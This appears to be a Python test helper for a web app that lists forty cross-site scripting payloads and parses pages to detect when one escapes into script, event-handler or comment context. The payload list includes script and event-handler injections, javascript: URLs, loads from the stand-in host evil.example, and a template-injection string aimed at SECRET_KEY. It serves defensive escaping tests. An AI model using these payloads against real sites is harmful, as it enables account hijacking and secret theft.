"""Forty texts that attack a page, and how to detect that one succeeded."""

from html.parser import HTMLParser

# Every text contains this marker, so it can be found anywhere.
MARK = "x5501"
RUNS = f"alert({MARK})"
PAYLOADS = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt>{RUNS}</sCrIpT>",
    f"<<script>{RUNS}//<</script>",
    f"</title><script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>",
    f"--><script>{RUNS}</script>",
    f"]]><script>{RUNS}</script>",
    f"<script src=//evil.example/{MARK}></script>",
    f"<script/{MARK} src=data:,{RUNS}></script>",
    f"<img src=x onerror={RUNS}>",
    f'"><img src=x onerror={RUNS}>',
    f"'><img src=x onerror={RUNS}>",
    f"`><img src=x onerror={RUNS}>",
    f'<img src="x" onerror="{RUNS}"',
    f"<img/src=x/onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x>",
    f"<math><mtext><style><img src=x onerror={RUNS}>",
    f'" onfocus={RUNS} autofocus x="',
    f"' onfocus={RUNS} autofocus x='",
    f"x onmouseover={RUNS} y",
    f"javascript:{RUNS}",
    f"java&#09;script:{RUNS}",
    f'<a href="javascript:{RUNS}">{MARK}</a>',
    f'<a href="&#106;avascript:{RUNS}">{MARK}</a>',
    f"<iframe src=javascript:{RUNS}></iframe>",
    f"<iframe srcdoc='<script>{RUNS}</script>'>",
    f"<object data=javascript:{RUNS}></object>",
    f"<embed src=javascript:{RUNS}>",
    f"<form action=javascript:{RUNS}><button>{MARK}",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content=0;url=//evil.example/{MARK}>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>@import '//evil.example/{MARK}';</style>",
    f"<body onload={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "{{7*7}}{% debug %}{{ settings.SECRET_KEY }} " + MARK,
)
# Attributes that only show or keep text, where user input may appear as well as between tags.
SHOWING = {
    "value",
    "content",
    "title",
    "alt",
    "aria-label",
    "placeholder",
    "data-copy",
    "data-text",
}


def broken_out(page: str) -> list[str]:
    """Return every place of a page where a payload is more than text."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.found


class _Reader(HTMLParser):
    """Parses a page like a browser, and records markers outside text and harmless attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            if name.startswith("on") or MARK in tag + name:
                self.found.append(f"<{tag} {name}>")
            elif MARK in (value or "") and name not in SHOWING and not _leads_here(name, value):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside and MARK in data:
            self.found.append(f"<{self._inside}> {data[:80]}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.found.append(f"<!-- {data[:80]}")

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)


def _leads_here(name: str, value: str | None) -> bool:
    """A repeated search is part of one of our URLs."""
    return name in ("href", "action", "data-href", "hx-get") and (value or "").startswith(
        ("/", "?")
    )
